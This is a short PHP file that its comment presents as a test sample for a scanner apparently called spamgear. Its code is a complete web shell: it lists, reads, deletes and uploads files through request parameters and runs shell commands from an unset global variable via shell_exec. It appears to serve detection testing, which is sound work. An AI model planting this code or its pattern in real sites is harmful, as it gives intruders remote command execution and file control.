<?php
// spamgear test sample: a small file browser (list, read, delete, upload
// into its own directory) whose command runner takes a global the file never
// sets.  Each half alone is only suspicious; together, a web shell.
$dir = dirname(__FILE__);
if (isset($_GET['ls'])) {
    foreach (scandir($dir) as $f) {
        echo htmlspecialchars($f), "\n";
    }
}
if (isset($_GET['cat'])) {
    readfile($dir . '/' . basename($_GET['cat']));
}
if (isset($_GET['rm'])) {
    unlink($dir . '/' . basename($_GET['rm']));
}
if (isset($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . basename($_FILES['f']['name']));
}
if ($run != '') {
    echo '<pre>' . shell_exec($run) . '</pre>';
}
